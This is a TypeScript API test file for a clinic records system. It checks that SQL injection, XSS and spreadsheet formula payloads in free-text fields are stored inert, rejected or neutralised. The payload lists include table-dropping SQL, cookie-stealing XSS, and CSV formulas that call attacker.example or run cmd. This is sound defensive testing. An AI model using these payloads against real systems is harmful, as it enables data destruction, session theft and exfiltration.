/**
 * SQL injection and XSS payloads in every free-text field of every write operation: stored
 * verbatim (read back from the database) and returned byte-identical in JSON, served as
 * application/json with X-Content-Type-Options: nosniff. Fields that refuse `<` `>` (names) refuse
 * the XSS payloads with a 400 naming the field and write nothing. Patient search with SQL
 * wildcards and injection returns exactly the matching patients; the tables survive; the records
 * CSV neutralises formula injection.
 */
import type { EntityTarget, ObjectLiteral } from 'typeorm';
import { SCREENING_ITEMS } from '@clinic/shared';
import { Phq9Assessment } from '../src/assessments/phq9-assessment.entity';
import { RiskEvent } from '../src/assessments/risk-event.entity';
import { Clinic } from '../src/clinics/clinic.entity';
import { Flag } from '../src/flags/flag.entity';
import { Patient } from '../src/patients/patient.entity';
import { RemsFormRecord } from '../src/rems/rems-form.entity';
import { DosingSession } from '../src/sessions/dosing-session.entity';
import { Observation } from '../src/sessions/observation.entity';
import { SideEffect } from '../src/sessions/side-effect.entity';
import { Protocol } from '../src/courses/protocol.entity';
import { Screening } from '../src/courses/screening.entity';
import { TreatmentCourse } from '../src/courses/treatment-course.entity';
import { CssrsScreening } from '../src/suicide-risk/cssrs-screening.entity';
import { SafetyPlan } from '../src/suicide-risk/safety-plan.entity';
import { User, UserClinic } from '../src/users/user.entity';
import { parseCsv } from './support/csv';
import { bearer, login, makeClinic, makeUser, type TestApi } from './support/api';
import { useApi } from './support/use-api';
import {
  CLINICAL_TABLES,
  createPatient,
  expectNothingWritten,
  expectStatus,
  isoAt,
  messages,
  MINUTE,
  type Res,
  V1,
} from './support/clinical-fixtures';

const SQL_PAYLOADS = [
  "' OR '1'='1",
  "'; DROP TABLE patients;--",
  'Robert"); DROP TABLE sessions; --',
  "admin'--",
  '1; DELETE FROM audit_log WHERE 1=1',
  '%',
  '_',
  '%_%',
  'back\\slash \\\\ \\x27 \\0',
  '$$; DROP TABLE clinics; $$',
  'Zoë Ōkubo 山田太郎 🩺 \u202eevil\u202c',
];
const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(document.cookie)>',
  "javascript:alert('x')",
  '</textarea><iframe src="javascript:alert(1)">',
  "{{constructor.constructor('alert(1)')()}}",
];
const PAYLOADS = [...SQL_PAYLOADS, ...XSS_PAYLOADS];
const HAS_ANGLE = /[<>]/;

/** The value sent for a field with a minimum length: the payload, repeated up to it. */
const atLeast = (payload: string, min: number): string =>
  payload.length >= min ? payload : payload.repeat(Math.ceil(min / payload.length));

function expectJson(res: Res): void {
  expect(res.headers['content-type']).toMatch(/^application\/json; charset=utf-8$/);
  expect(res.headers['x-content-type-options']).toBe('nosniff');
}

/** A field read back from the database, the way the entity stores it. */
async function stored<T extends ObjectLiteral>(
  api: TestApi,
  entity: EntityTarget<T>,
  id: string,
): Promise<T> {
  return api.ds.getRepository(entity).findOneByOrFail({ id } as never);
}

describe('injection payloads are stored and returned inert', () => {
  const { api, world } = useApi();

  const psychiatrist = () => world.tokens.a.psychiatrist;
  const nurse = () => world.tokens.a.nurse;
  const post = (path: string, token: string, body: unknown, headers: Record<string, string> = {}) =>
    api
      .http()
      .post(`${V1}${path}`)
      .set(bearer(token))
      .set(headers)
      .send(body as object);
  const get = (path: string, token: string) => api.http().get(`${V1}${path}`).set(bearer(token));

  it.each(PAYLOADS)('clinical free text: %s', async (payload) => {
    // names: SQL payloads are names like any other; < > are refused (below)
    const name = HAS_ANGLE.test(payload) ? 'Injection' : payload;
    const patient = await createPatient(api, psychiatrist(), world.clinicA.id, {
      givenName: name,
      familyName: name,
    });
    const created = await get(`/patients/${patient.id}`, nurse());
    expectStatus(created, 200);
    expectJson(created);
    expect(created.body).toMatchObject({ givenName: name, familyName: name });
    expect(await stored(api, Patient, patient.id)).toMatchObject({
      givenName: name,
      familyName: name,
    });

    // session: notes and concomitant medications
    const sessionRes = await post(`/patients/${patient.id}/sessions`, psychiatrist(), {
      drug: 'ketamine',
      route: 'iv',
      doseMg: 35,
      startedAt: isoAt(Date.now(), -10 * MINUTE),
      infusionMinutes: 40,
      notes: payload,
      concomitantMedications: [payload, 'sertraline 50 mg'],
    });
    expectStatus(sessionRes, 201);
    expectJson(sessionRes);
    const sessionId = sessionRes.body.id as string;
    expect(sessionRes.body).toMatchObject({
      notes: payload,
      concomitantMedications: [payload, 'sertraline 50 mg'],
    });
    expect(await stored(api, DosingSession, sessionId)).toMatchObject({
      notes: payload,
      concomitantMedications: [payload, 'sertraline 50 mg'],
    });

    // an observation that raises a flag (acknowledged and resolved with the payload as notes)
    const observation = await post(`/sessions/${sessionId}/observations`, nurse(), {
      recordedAt: isoAt(Date.now(), -5 * MINUTE),
      heartRate: 130,
    });
    expectStatus(observation, 201);
    const flag = await api.ds
      .getRepository(Flag)
      .findOneByOrFail({ patientId: patient.id, rule: 'hr.tachycardia' });
    const ack = await post(`/flags/${flag.id}/acknowledge`, nurse(), { note: payload });
    expectStatus(ack, 200);
    expectJson(ack);
    expect(ack.body.acknowledgeNote ?? ack.body.note).toBe(payload);
    const resolveNote = atLeast(payload, 3);
    const resolved = await post(`/flags/${flag.id}/resolve`, nurse(), { note: resolveNote });
    expectStatus(resolved, 200);
    expect(resolved.body.note).toBe(resolveNote);
    expect(await stored(api, Flag, flag.id)).toMatchObject({
      acknowledgeNote: payload,
      note: resolveNote,
    });
    const flags = await get(`/flags?patientId=${patient.id}&status=resolved`, nurse());
    expectStatus(flags, 200);
    expectJson(flags);
    expect(flags.body.items.find((f: { id: string }) => f.id === flag.id)?.note).toBe(resolveNote);

    // side effect and risk event notes
    const sideEffect = await post(`/sessions/${sessionId}/side-effects`, nurse(), {
      type: 'other',
      severity: 'mild',
      onsetAt: isoAt(Date.now(), -MINUTE),
      notes: payload,
    });
    expectStatus(sideEffect, 201);
    expect(sideEffect.body.notes).toBe(payload);
    const risk = await post(`/patients/${patient.id}/risk-events`, nurse(), {
      type: 'craving',
      occurredAt: isoAt(Date.now(), -MINUTE),
      notes: payload,
    });
    expectStatus(risk, 201);
    expect(risk.body.notes).toBe(payload);
    for (const [path, id] of [
      [`/patients/${patient.id}/side-effects`, sideEffect.body.id],
      [`/patients/${patient.id}/risk-events`, risk.body.id],
    ] as const) {
      const list = await get(path, nurse());
      expectStatus(list, 200);
      expectJson(list);
      expect(list.body.items.find((i: { id: string }) => i.id === id)?.notes).toBe(payload);
    }
    expect((await stored(api, SideEffect, sideEffect.body.id as string)).notes).toBe(payload);
    expect((await stored(api, RiskEvent, risk.body.id as string)).notes).toBe(payload);

    // entered-in-error reasons
    const phq9 = await post(`/patients/${patient.id}/phq9`, nurse(), {
      administeredAt: isoAt(Date.now(), -MINUTE),
      items: [0, 0, 0, 0, 0, 0, 0, 0, 0],
      recall: 'two_weeks',
    });
    expectStatus(phq9, 201);
    const reason = atLeast(payload, 3);
    const marks: [string, string, EntityTarget<ObjectLiteral>][] = [
      ['observations', observation.body.id as string, Observation],
      ['side-effects', sideEffect.body.id as string, SideEffect],
      ['risk-events', risk.body.id as string, RiskEvent],
      ['phq9', phq9.body.id as string, Phq9Assessment],
    ];
    for (const [kind, id, entity] of marks) {
      const res = await post(`/${kind}/${id}/entered-in-error`, nurse(), { reason });
      expectStatus(res, 200);
      expectJson(res);
      expect(res.body.enteredInError.reason).toBe(reason);
      expect((await stored(api, entity, id))['enteredInErrorReason']).toBe(reason);
    }

    // discharge override reason
    const overrideReason = atLeast(payload, 5);
    const discharged = await post(`/sessions/${sessionId}/discharge`, psychiatrist(), {
      dischargedAt: isoAt(Date.now(), 0),
      overrideReason,
    });
    expectStatus(discharged, 200);
    expectJson(discharged);
    expect(discharged.body.dischargeOverrideReason).toBe(overrideReason);
    const session = await get(`/sessions/${sessionId}`, nurse());
    expectStatus(session, 200);
    expect(session.body).toMatchObject({
      notes: payload,
      concomitantMedications: [payload, 'sertraline 50 mg'],
      dischargeOverrideReason: overrideReason,
    });
    expect((await stored(api, DosingSession, sessionId)).dischargeOverrideReason).toBe(
      overrideReason,
    );

    // v2: an order's cancel reason, and a psychiatrist's start override reason
    const order = () =>
      post(`/patients/${patient.id}/sessions`, psychiatrist(), {
        drug: 'ketamine',
        route: 'iv',
        doseMg: 35,
        infusionMinutes: 40,
        plannedAt: isoAt(Date.now(), 30 * MINUTE),
      });
    const cancelled = await order();
    expectStatus(cancelled, 201);
    const cancelReason = atLeast(payload, 3);
    const cancel = await post(`/sessions/${cancelled.body.id as string}/cancel`, nurse(), {
      reason: cancelReason,
    });
    expectStatus(cancel, 200);
    expectJson(cancel);
    expect(cancel.body.cancelReason).toBe(cancelReason);
    expect((await stored(api, DosingSession, cancelled.body.id as string)).cancelReason).toBe(
      cancelReason,
    );
    const ordered = await order();
    expectStatus(ordered, 201);
    const started = await post(`/sessions/${ordered.body.id as string}/start`, psychiatrist(), {
      startedAt: isoAt(Date.now(), 0),
      overrideReason,
    });
    expectStatus(started, 200);
    expectJson(started);
    expect(started.body.startOverrideReason).toBe(overrideReason);
    expect((await stored(api, DosingSession, ordered.body.id as string)).startOverrideReason).toBe(
      overrideReason,
    );
  });

  it.each(PAYLOADS)('REMS form free text: %s', async (payload) => {
    const patient = await createPatient(api, psychiatrist(), world.clinicA.id, { sex: 'female' });
    const start = Date.now() - 3 * 60 * MINUTE;
    const session = await post(`/patients/${patient.id}/sessions`, psychiatrist(), {
      drug: 'esketamine',
      route: 'intranasal',
      doseMg: 56,
      startedAt: isoAt(start, 0),
      lotNumber: 'SPR-1',
      concomitantMedications: ['none'],
    });
    expectStatus(session, 201);
    const sessionId = session.body.id as string;
    for (const minutes of [-5, 40, 90, 120]) {
      const reading = await post(`/sessions/${sessionId}/observations`, nurse(), {
        recordedAt: isoAt(start, minutes * MINUTE),
        systolic: 124,
        diastolic: 78,
        spo2: 98,
        respiratoryRate: 14,
        moaas: 5,
        cadss6: [0, 0, 0, 0, 0, 0],
      });
      expectStatus(reading, 201);
    }
    expectStatus(
      await post(`/sessions/${sessionId}/discharge`, nurse(), {
        dischargedAt: isoAt(start, 125 * MINUTE),
      }),
      200,
    );
    const fields = {
      monitoringProvider: payload,
      setting: payload,
      corrections: [{ field: 'lotNumber', value: payload, reason: payload }],
    };
    const patched = await api
      .http()
      .patch(`${V1}/sessions/${sessionId}/rems`)
      .set(bearer(nurse()))
      .set('If-Match', '"0"')
      .send(fields);
    expectStatus(patched, 200);
    expectJson(patched);
    expect(patched.body).toMatchObject({
      monitoringProvider: payload,
      setting: payload,
      corrections: [{ field: 'lotNumber', value: payload, reason: payload, original: 'SPR-1' }],
    });
    const submitted = await post(`/sessions/${sessionId}/rems/submitted`, nurse(), {
      submittedAt: new Date().toISOString(),
      reference: payload,
    });
    expectStatus(submitted, 200);
    const read = await get(`/sessions/${sessionId}/rems`, nurse());
    expectStatus(read, 200);
    expectJson(read);
    expect(read.body).toMatchObject({
      monitoringProvider: payload,
      setting: payload,
      reference: payload,
    });
    expect(await api.ds.getRepository(RemsFormRecord).findOneByOrFail({ sessionId })).toMatchObject(
      {
        monitoringProvider: payload,
        setting: payload,
        reference: payload,
        corrections: [expect.objectContaining({ value: payload, reason: payload })],
      },
    );
  });

  it.each(PAYLOADS)('suicide-risk free text: %s', async (payload) => {
    const patient = await createPatient(api, psychiatrist(), world.clinicA.id);
    // the safety plan: every list entry and text field
    const plan = {
      warningSigns: [payload],
      copingStrategies: [payload, 'walk'],
      socialDistractions: [payload],
      helpContacts: [payload],
      professionalContacts: [payload],
      meansSafety: payload,
      reasonsForLiving: payload,
    };
    const put = await api
      .http()
      .put(`${V1}/patients/${patient.id}/safety-plan`)
      .set(bearer(nurse()))
      .send(plan);
    expectStatus(put, 200);
    expectJson(put);
    expect(put.body).toMatchObject(plan);
    const read = await get(`/patients/${patient.id}/safety-plan`, nurse());
    expectStatus(read, 200);
    expectJson(read);
    expect(read.body).toMatchObject(plan);
    expect(
      await api.ds.getRepository(SafetyPlan).findOneByOrFail({ patientId: patient.id }),
    ).toMatchObject(plan);

    // an item-9 flag resolved by a psychiatrist without a screener: the reason joins the note
    const phq9 = await post(`/patients/${patient.id}/phq9`, nurse(), {
      administeredAt: isoAt(Date.now(), -2 * MINUTE),
      items: [1, 1, 1, 1, 1, 1, 1, 1, 1],
      recall: 'two_weeks',
    });
    expectStatus(phq9, 201);
    const flag = await api.ds
      .getRepository(Flag)
      .findOneByOrFail({ patientId: patient.id, rule: 'phq9.item9_positive' });
    const note = atLeast(payload, 3);
    const resolved = await post(`/flags/${flag.id}/resolve`, psychiatrist(), {
      note,
      noScreenerReason: payload,
    });
    expectStatus(resolved, 200);
    expectJson(resolved);
    expect(resolved.body.note).toBe(`${note}\nNo screener: ${payload.trim()}`);
    expect((await stored(api, Flag, flag.id)).note).toBe(`${note}\nNo screener: ${payload.trim()}`);

    // a C-SSRS screener entered in error, with the payload as the reason
    const screener = await post(`/patients/${patient.id}/cssrs`, nurse(), {
      administeredAt: isoAt(Date.now(), -MINUTE),
      wishDead: false,
      suicidalThoughts: false,
      behavior: false,
    });
    expectStatus(screener, 201);
    const reason = atLeast(payload, 3);
    const marked = await post(`/cssrs/${screener.body.id}/entered-in-error`, nurse(), { reason });
    expectStatus(marked, 200);
    expectJson(marked);
    expect(marked.body.enteredInError.reason).toBe(reason);
    expect(
      (await stored(api, CssrsScreening, screener.body.id as string)).enteredInErrorReason,
    ).toBe(reason);
  });

  describe('treatment courses', () => {
    // A clinic of its own: a clinical course puts a clinic in course mode (docs/decisions.md).
    let clinicId: string;
    let token: string;
    beforeAll(async () => {
      clinicId = (await makeClinic(api.ds)).id;
      token = await login(api, (await makeUser(api.ds, 'psychiatrist', [clinicId])).email);
    });

    it.each(PAYLOADS)('treatment-course free text: %s', async (payload) => {
      const name = atLeast(payload, 3);
      const protocol = await post('/protocols', token, {
        clinicId,
        name,
        drug: 'ketamine',
        route: 'iv',
        source: payload,
        induction: { sessions: 6, withinDays: 21, maxPerWeek: 3 },
        dosePlan: { unit: 'mg_per_kg', first: 0.5, steps: [0.5], max: 0.5 },
      });
      expectStatus(protocol, 201);
      expectJson(protocol);
      expect(protocol.body).toMatchObject({ name: name.trim(), source: payload });
      expect(await stored(api, Protocol, protocol.body.id as string)).toMatchObject({
        name: name.trim(),
        source: payload,
      });

      const patient = await createPatient(api, token, clinicId);
      const screening = await post(`/patients/${patient.id}/screenings`, token, {
        drug: 'ketamine',
        screenedAt: isoAt(Date.now(), -MINUTE),
        answers: {
          ...Object.fromEntries(SCREENING_ITEMS.map((item) => [item, 'no'])),
          hypersensitivity: 'yes',
        },
        notes: { hypersensitivity: payload },
        consentAt: isoAt(Date.now(), -MINUTE),
      });
      expectStatus(screening, 201);
      expectJson(screening);
      expect(screening.body.notes).toEqual({ hypersensitivity: payload.trim() });
      expect(
        (await stored(api, Screening, screening.body.id as string)).notes.hypersensitivity,
      ).toBe(payload.trim());

      const overrideReason = atLeast(payload, 5);
      const course = await post(`/patients/${patient.id}/courses`, token, {
        protocolId: protocol.body.id,
        screeningId: screening.body.id,
        kind: 'initial',
        overrideReason,
      });
      expectStatus(course, 201);
      expect(course.body.overrideReason).toBe(overrideReason);
      const ended = await post(`/courses/${course.body.id}/end`, token, {
        reason: 'other',
        note: payload,
      });
      expectStatus(ended, 200);
      expectJson(ended);
      expect(ended.body.endNote).toBe(payload.trim());
      expect(await stored(api, TreatmentCourse, course.body.id as string)).toMatchObject({
        overrideReason,
        endNote: payload.trim(),
      });
      // The printable summary gives the free text back as data, unchanged.
      const summary = await get(
        `/patients/${patient.id}/course-summary?courseId=${course.body.id as string}`,
        token,
      );
      expectStatus(summary, 200);
      expectJson(summary);
      expect(summary.body).toMatchObject({
        protocol: { name: name.trim(), source: payload },
        course: { endNote: payload.trim(), overrideReason },
        screening: {
          overrideReason,
          items: [{ item: 'hypersensitivity', answer: 'yes', note: payload.trim() }],
        },
      });
    });
  });

  it.each(PAYLOADS)('administration free text: %s', async (payload) => {
    const admin = world.tokens.a.admin;
    const name = atLeast(payload, 2);
    if (HAS_ANGLE.test(payload)) {
      // clinic and user names refuse < > (they are shown in e-mails and the page title)
      await expectNothingWritten(api, async () => {
        const clinic = await post('/clinics', admin, { name, timezone: 'Europe/London' });
        expectStatus(clinic, 400);
        expect(messages(clinic).join('\n')).toMatch(/^name /m);
        const user = await post('/users', admin, {
          email: `inj-${Date.now()}@test.example`,
          name,
          role: 'nurse',
          password: 'a-long-and-unbreached-passphrase',
          clinicIds: [world.clinicA.id],
        });
        expectStatus(user, 400);
        expect(messages(user).join('\n')).toMatch(/^name /m);
      }, [Clinic, User]);
      return;
    }
    const clinic = await post('/clinics', admin, { name, timezone: 'Europe/London' });
    expectStatus(clinic, 201);
    expectJson(clinic);
    expect(clinic.body.name).toBe(name);
    expect((await stored(api, Clinic, clinic.body.id as string)).name).toBe(name);
    const user = await post('/users', admin, {
      email: `inj-${Date.now()}-${Math.random().toString(36).slice(2)}@test.example`,
      name,
      role: 'nurse',
      password: 'a-long-and-unbreached-passphrase',
      clinicIds: [clinic.body.id],
    });
    expectStatus(user, 201);
    expect(user.body.name).toBe(name);
    expect((await stored(api, User, user.body.id as string)).name).toBe(name);
    // (v2) the administrator's reason for disabling the account is kept verbatim in the audit
    const reason = atLeast(payload, 3);
    expectStatus(await post(`/users/${user.body.id as string}/disable`, admin, { reason }), 200);
    const audit = await api
      .http()
      .get(`${V1}/audit?actorId=${world.users.admin.id}&limit=200`)
      .set(bearer(admin));
    expectStatus(audit, 200);
    expectJson(audit);
    expect(
      (audit.body.items as { resourceId: string; details: { reason?: string } | null }[]).find(
        (e) => e.resourceId === user.body.id && e.details?.reason !== undefined,
      )?.details?.reason,
    ).toBe(reason);
    const users = await api.http().get(`${V1}/users?limit=200`).set(bearer(admin));
    expectStatus(users, 200);
    expectJson(users);
    expect(users.body.items.find((u: { id: string }) => u.id === user.body.id)?.name).toBe(name);
    const clinics = await api.http().get(`${V1}/clinics?limit=200`).set(bearer(admin));
    expectStatus(clinics, 200);
    expect(clinics.body.items.find((c: { id: string }) => c.id === clinic.body.id)?.name).toBe(
      name,
    );
  });

  it.each(XSS_PAYLOADS.filter((p) => HAS_ANGLE.test(p)))(
    'patient names refuse %s with a 400 naming the field',
    async (payload) => {
      for (const field of ['givenName', 'familyName']) {
        const res = await expectNothingWritten(
          api,
          () =>
            post('/patients', psychiatrist(), {
              clinicId: world.clinicA.id,
              mrn: `XSS-${Math.random().toString(36).slice(2, 8)}`,
              givenName: 'Ok',
              familyName: 'Ok',
              birthDate: '1980-01-01',
              sex: 'female',
              [field]: payload,
            }),
          [...CLINICAL_TABLES, Patient],
        );
        expectStatus(res, 400);
        expect(messages(res).join('\n')).toContain(`${field} must not contain`);
      }
    },
  );

  it.each([...SQL_PAYLOADS, ...XSS_PAYLOADS])(
    'identifiers with a strict format refuse %s (MRN, lot number), naming the field',
    async (payload) => {
      const patient = await createPatient(api, psychiatrist(), world.clinicA.id);
      const mrn = await expectNothingWritten(
        api,
        () =>
          api
            .http()
            .patch(`${V1}/patients/${patient.id}`)
            .set(bearer(psychiatrist()))
            .set('If-Match', '"1"')
            .send({ mrn: payload }),
        [...CLINICAL_TABLES],
      );
      // "_" alone is a valid MRN character; everything else here is refused
      if (/^[A-Za-z0-9][A-Za-z0-9._/-]*$/.test(payload)) expectStatus(mrn, 200);
      else {
        expectStatus(mrn, 400);
        expect(messages(mrn).join('\n')).toMatch(/^mrn /m);
      }
      const lot = await expectNothingWritten(api, () =>
        post(`/patients/${patient.id}/sessions`, psychiatrist(), {
          drug: 'ketamine',
          route: 'iv',
          doseMg: 35,
          startedAt: isoAt(Date.now(), -MINUTE),
          infusionMinutes: 40,
          lotNumber: payload,
        }),
      );
      expectStatus(lot, 400);
      expect(messages(lot).join('\n')).toMatch(/^lotNumber /m);
    },
  );

  describe('patient search', () => {
    const names: Record<string, string> = {
      percent: '100% Sure',
      underscore: 'Under_Score',
      quote: "O'Brien",
      injection: "' OR '1'='1",
      backslash: 'Back\\slash',
      plain: 'Plainname',
      other: 'Othername',
    };
    const ids: Record<string, string> = {};
    let clinicId: string;

    beforeAll(async () => {
      // a clinic of their own, so the counts are exact
      const clinic = await post('/clinics', world.tokens.a.admin, {
        name: 'Search Clinic',
        timezone: 'Europe/London',
      });
      expectStatus(clinic, 201);
      clinicId = clinic.body.id as string;
      await api.ds
        .getRepository(UserClinic)
        .insert({ userId: world.users.a.psychiatrist.id, clinicId });
      for (const [key, familyName] of Object.entries(names)) {
        const p = await createPatient(api, psychiatrist(), clinicId, {
          givenName: 'Searchable',
          familyName,
          mrn: `S-${key}`,
        });
        ids[key] = p.id;
      }
    });

    /** The ids found, the same by GET (query string) and POST /patients/search (body). */
    const search = async (term: string): Promise<string[]> => {
      const res = await api
        .http()
        .get(`${V1}/patients`)
        .query({ clinicId, search: term, limit: 200 })
        .set(bearer(psychiatrist()));
      expectStatus(res, 200);
      expectJson(res);
      const viaPost = await post('/patients/search', psychiatrist(), {
        clinicId,
        search: term,
        limit: 200,
      });
      expectStatus(viaPost, 200);
      expectJson(viaPost);
      const ids = (r: typeof res) => (r.body.items as { id: string }[]).map((p) => p.id).sort();
      expect(ids(viaPost)).toEqual(ids(res));
      return ids(res);
    };
    const only = (...keys: string[]) => keys.map((k) => ids[k]).sort();

    it.each([
      ['%', ['percent']],
      ['_', ['underscore']],
      ['%_%', []],
      ["'", ['quote', 'injection']],
      ["' OR '1'='1", ['injection']],
      ["O'Brien", ['quote']],
      ['\\', ['backslash']],
      ["'; DROP TABLE patients;--", []],
      [
        'searchable',
        ['percent', 'underscore', 'quote', 'injection', 'backslash', 'plain', 'other'],
      ],
    ])('search %p finds exactly its matches', async (term, keys) => {
      expect(await search(term)).toEqual(only(...keys));
    });

    it('leaves every table in place', async () => {
      for (const entity of [Patient, DosingSession, Clinic, User, ...CLINICAL_TABLES]) {
        await expect(api.ds.getRepository(entity).count()).resolves.toBeGreaterThanOrEqual(0);
      }
      expect(await api.ds.getRepository(Patient).countBy({ clinicId })).toBe(
        Object.keys(names).length,
      );
    });
  });

  describe('CSV exports', () => {
    it.each([
      '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
      '+1+1',
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '=1+1\r\n=2+2',
    ])(
      'neutralises %p in the records CSV (risk event notes, entered-in-error reasons)',
      async (formula) => {
        const patient = await createPatient(api, psychiatrist(), world.clinicA.id);
        const risk = await post(`/patients/${patient.id}/risk-events`, nurse(), {
          type: 'craving',
          occurredAt: isoAt(Date.now(), -MINUTE),
          notes: formula,
        });
        expectStatus(risk, 201);
        const marked = await post(`/risk-events/${risk.body.id}/entered-in-error`, nurse(), {
          reason: formula,
        });
        expectStatus(marked, 200);
        const res = await api
          .http()
          .get(`${V1}/patients/${patient.id}/records.csv`)
          .set(bearer(world.tokens.a.manager))
          .buffer(true)
          .parse((response, done) => {
            let text = '';
            response.setEncoding('utf8');
            response.on('data', (chunk: string) => (text += chunk));
            response.on('end', () => done(null, text));
          });
        expectStatus(res, 200);
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        const rows = parseCsv(res.body as string);
        const header = rows[0];
        const row = rows.find((r) => r[header.indexOf('record_id')] === risk.body.id);
        expect(row).toBeDefined();
        const cells = [
          (row as string[])[header.indexOf('value')],
          (row as string[])[header.indexOf('entered_in_error_reason')],
        ];
        // each cell is the text with an apostrophe in front: a spreadsheet shows it, never runs it
        expect(cells).toEqual([`'${formula}`, `'${formula}`]);
      },
    );
  });
});
